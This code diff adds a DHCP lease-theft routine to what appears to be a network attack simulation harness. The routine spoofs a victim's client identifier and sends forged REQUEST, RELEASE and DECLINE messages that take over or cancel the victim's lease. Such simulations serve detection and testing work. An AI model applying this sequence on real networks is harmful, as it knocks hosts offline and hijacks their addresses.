@@ -194,6 +194,20 @@ def dhcp_starvation(scene):
     return frames
 
 
+def dhcp_lease_theft(scene):
+    own, victim = scene.attacker.mac, scene.victim
+    identifier = (61, b"\x01" + octets(victim.mac))
+    wanted = ("requested_addr", victim.ip)
+    server = ("server_id", scene.host.ip)
+    return [
+        ask_dhcp(scene, dhcp_message(scene, "discover", 1, own, [identifier])),
+        ask_dhcp(scene, dhcp_message(scene, "request", 2, own, [identifier, wanted, server])),
+        ask_dhcp(scene, dhcp_message(scene, "release", 3, own, [server], ciaddr=victim.ip)),
+        ask_dhcp(scene, dhcp_message(scene, "release", 4, own, [identifier, server], ciaddr=victim.ip)),
+        ask_dhcp(scene, dhcp_message(scene, "decline", 5, own, [wanted, server])),
+    ]
+
+
 def dhcp_relay(scene):
     own = scene.attacker
     return [
